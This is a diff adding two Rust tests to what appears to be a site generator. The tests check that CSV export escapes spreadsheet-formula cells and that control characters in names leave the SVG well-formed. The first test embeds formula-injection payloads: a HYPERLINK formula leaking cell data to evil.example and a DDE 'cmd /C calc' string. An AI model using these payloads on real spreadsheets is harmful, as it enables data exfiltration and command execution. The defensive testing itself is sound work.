@@ -304,6 +304,44 @@ Monitor,\"Medical specialists (pain clinic, rehabilitation)\",Referrers and GPs,
 }
 
 #[test]
+fn csv_cells_that_could_run_as_formulas_are_written_as_text() {
+    let site = Site::fixture("stakeholders");
+    let map = site.read("content/map.md").replace(
+        r#"{ action = "Plan feedback time", owner = "Lead" }"#,
+        r#"{ action = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", owner = "@SUM(1+1)*cmd|' /C calc'!A0" }"#,
+    );
+    site.write(
+        "content/map.md",
+        &map.replace("\"Board of directors\"", "\"+Board\""),
+    );
+    site.run(&["build", "--quiet"]).success();
+    let csv = site.read("public/map/map.csv");
+    for row in [
+        "Manage closely,Team manager,Management,5,4,Supporter,Inner setting,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",'@SUM(1+1)*cmd|' /C calc'!A0\r\n",
+        "Keep satisfied,'+Board,Board,5,2,",
+    ] {
+        assert!(csv.contains(row), "{csv}");
+    }
+}
+
+#[test]
+fn a_control_character_in_a_name_leaves_the_svg_well_formed() {
+    let site = Site::fixture("stakeholders");
+    let map = site.read("content/map.md").replace(
+        r#"name = "Team manager""#,
+        r#"name = "Team\u0000manager\u0007""#,
+    );
+    site.write("content/map.md", &map);
+    site.run(&["build", "--quiet"]).success();
+    let svg = site.read("public/map/map.svg");
+    roxmltree::Document::parse(&svg).expect("the SVG is well-formed XML");
+    assert!(svg.contains(">Team\u{fffd}manager\u{fffd}<"), "{svg}");
+    assert!(!svg.contains(['\u{0}', '\u{7}']));
+    let page = site.read("public/map/index.html");
+    assert!(!page.contains(['\u{0}', '\u{7}']));
+}
+
+#[test]
 fn bad_maps_fail_with_their_place_in_the_file() {
     fails_with("errors/stakeholders", &["build"], 1);
 }
